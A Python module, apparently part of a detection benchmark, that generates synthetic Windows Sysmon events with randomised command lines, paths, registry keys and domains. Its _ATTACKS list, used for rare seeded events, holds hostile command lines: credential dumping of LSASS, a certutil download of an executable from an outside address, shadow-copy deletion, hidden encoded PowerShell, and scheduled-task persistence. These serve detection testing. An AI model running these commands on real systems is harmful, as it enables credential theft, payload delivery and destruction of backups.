"""Generated Windows telemetry for the detection benchmark: the variety of a real fleet, not a few rows.

Detection cost depends on how many *distinct* values a column holds (a matcher works per distinct value)
and on how many patterns each value hits, so the generator draws Sysmon events of nine kinds in
realistic proportions, with command lines, file paths, registry keys, domains and addresses built from
random user names, GUIDs, temp names, numbers and URLs: about half the command lines of a million
events are distinct. About one event in 2,000 is drawn from a list of attacker command lines, so that
rules fire. The same seed always writes the same file.
"""

from __future__ import annotations

import random
from pathlib import Path

from ingest_jsonl import write_json_lines  # bench/ is on sys.path when its scripts run

__all__ = ["generate"]

_USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "jörg", "svc_backup", "svc_sql", "admin"]
_HOSTS = [f"WS{n:04d}.corp.example.com" for n in range(500)]
_BINARIES = [
    (r"C:\Windows\System32\svchost.exe", ["-k netsvcs -p -s {svc}", "-k LocalService -p", "-k {svc}"]),
    (
        r"C:\Windows\System32\cmd.exe",
        ['/c "{script}"', "/c echo {n} > {tmp}", "/c dir {dir}", "/c copy {tmp} {dir}"],
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        ["--type=renderer --field-trial-handle={n} /prefetch:{k}", "--type=utility --lang=en-US {url}"],
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        ["-File {script}", "-Command Get-Item {dir}"],
    ),
    (r"C:\Windows\System32\conhost.exe", ["0xffffffff -ForceV1", "--headless --width {k} --height {k}"]),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", ['/n "{doc}"', '"{doc}" /o ""']),
    (r"C:\Windows\System32\msiexec.exe", ["/i {tmp} /qn", "/V", "-Embedding {guid}"]),
    (r"C:\Program Files\Git\usr\bin\git.exe", ["fetch origin", "status --porcelain", "log -n {k} {dir}"]),
    (r"C:\Windows\System32\taskhostw.exe", ["{guid}", "Install $(Arg0)"]),
    (r"C:\Windows\System32\dllhost.exe", ["/Processid:{guid}"]),
    (r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe", ["--type=gpu-process {url}"]),
]
_ATTACKS = [
    r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc SQBFAFgAIAAoAE4A',
    r'"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full',
    r'"C:\Windows\System32\certutil.exe" -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe',
    r'"C:\Windows\System32\vssadmin.exe" delete shadows /all /quiet',
    r'"C:\Windows\System32\schtasks.exe" /create /sc minute /tn upd /tr C:\Users\Public\a.exe',
    r'"C:\Windows\System32\wbem\WMIC.exe" process call create "cmd.exe /c whoami"',
]
_DOMAINS = [
    "microsoft.com",
    "google.com",
    "corp.example.com",
    "github.com",
    "office365.com",
    "akamaiedge.net",
]
_DLLS = ["kernel32.dll", "ntdll.dll", "user32.dll", "crypt32.dll", "wininet.dll", "clr.dll", "amsi.dll"]
_KINDS = [(1, 30), (3, 15), (7, 20), (11, 12), (13, 10), (22, 6), (10, 3), (5, 3), (12, 1)]


def _fill(rng: random.Random, template: str, user: str) -> str:
    return template.format(
        svc=rng.choice(["Schedule", "BITS", "wuauserv", "Dnscache", "LanmanServer"]),
        script=rf"C:\Users\{user}\scripts\job_{rng.randrange(5000)}.ps1",
        n=rng.randrange(10**6),
        k=rng.randrange(1, 200),
        tmp=rf"C:\Users\{user}\AppData\Local\Temp\tmp{rng.getrandbits(20):05X}.tmp",
        dir=rf"C:\Users\{user}\Documents\project{rng.randrange(300)}",
        url=f"https://{rng.choice(_DOMAINS)}/{rng.getrandbits(24):06x}",
        doc=rf"C:\Users\{user}\Documents\report_{rng.randrange(20000)}.docx",
        guid=f"{{{rng.getrandbits(32):08X}-{rng.getrandbits(16):04X}-4{rng.getrandbits(12):03X}-"
        f"8{rng.getrandbits(12):03X}-{rng.getrandbits(48):012X}}}",
        user=user,
    )


def _process(rng: random.Random, user: str) -> tuple[str, str]:
    image, args = rng.choice(_BINARIES)
    image = image.replace("{user}", user)
    if rng.random() < 0.0005:
        line = rng.choice(_ATTACKS)
        return line.split('"')[1], line
    return image, f'"{image}" {_fill(rng, rng.choice(args), user)}'


def _event(rng: random.Random, n: int) -> dict[str, object]:
    """One Sysmon event of a kind drawn by frequency, flat as NXLog writes it."""
    event_id = rng.choices([k for k, _ in _KINDS], [w for _, w in _KINDS])[0]
    user = rng.choice(_USERS)
    image, command_line = _process(rng, user)
    second = n % 86400
    day = 1 + n // 86400 % 28
    event: dict[str, object] = {
        "EventTime": f"2024-03-{day:02d} {second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d}",
        "Hostname": rng.choice(_HOSTS),
        "EventID": event_id,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "SourceName": "Microsoft-Windows-Sysmon",
        "RecordNumber": n + 1,
        "ProcessGuid": f"{{{rng.getrandbits(32):08x}-5f1e-{rng.getrandbits(16):04x}-0000-0010{n:08x}}}",
        "ProcessId": rng.randint(100, 65000),
        "Image": image,
        "User": f"CORP\\{user}",
    }
    if event_id == 1:
        parent, parent_line = _process(rng, user)
        event.update(
            CommandLine=command_line,
            ParentImage=parent,
            ParentCommandLine=parent_line,
            CurrentDirectory=rf"C:\Users\{user}\\",
            OriginalFileName=image.rsplit("\\", 1)[-1].upper(),
            IntegrityLevel=rng.choice(("Medium", "High", "System")),
            Hashes=f"SHA256={rng.getrandbits(256):064X},IMPHASH={rng.getrandbits(128):032X}",
        )
    elif event_id == 3:
        event.update(
            DestinationIp=f"{rng.choice((10, 172, 52, 140))}.{rng.randrange(256)}.{n % 256}.{n % 251}",
            DestinationPort=rng.choice((443, 80, 53, 445, 3389, rng.randrange(1024, 65535))),
            DestinationHostname=f"host{rng.randrange(5000)}.{rng.choice(_DOMAINS)}",
            SourceIp=f"10.0.{rng.randrange(256)}.{rng.randrange(256)}",
            Initiated=rng.choice(("true", "false")),
        )
    elif event_id == 7:
        dll = rng.choice(_DLLS)
        event.update(ImageLoaded=rf"C:\Windows\System32\{dll}", Signed="true", Signature="Microsoft Windows")
    elif event_id in (11, 5):
        event.update(TargetFilename=_fill(rng, rng.choice(("{tmp}", "{doc}", "{script}")), user))
    elif event_id in (12, 13):
        sid = f"S-1-5-21-{rng.getrandbits(30)}"
        key = rf"HKU\{sid}\Software\Vendor{rng.randrange(400)}\Settings\Value{rng.randrange(50)}"
        event.update(TargetObject=key, Details=f"DWORD (0x{rng.getrandbits(16):08x})", EventType="SetValue")
    elif event_id == 22:
        event.update(
            QueryName=f"{rng.choice(('www', 'api', 'cdn'))}{rng.randrange(900)}.{rng.choice(_DOMAINS)}",
            QueryResults=f"::ffff:{rng.randrange(256)}.{rng.randrange(256)}.0.1;",
        )
    elif event_id == 10:
        event.update(TargetImage=r"C:\Windows\System32\lsass.exe" if rng.random() < 0.01 else image,
                     GrantedAccess=rng.choice(("0x1000", "0x1410", "0x1fffff")))  # fmt: skip
    return event


def generate(path: Path, events: int, seed: int = 11) -> None:
    """Write `events` JSON lines to `path`."""
    write_json_lines(path, events, _event, seed)
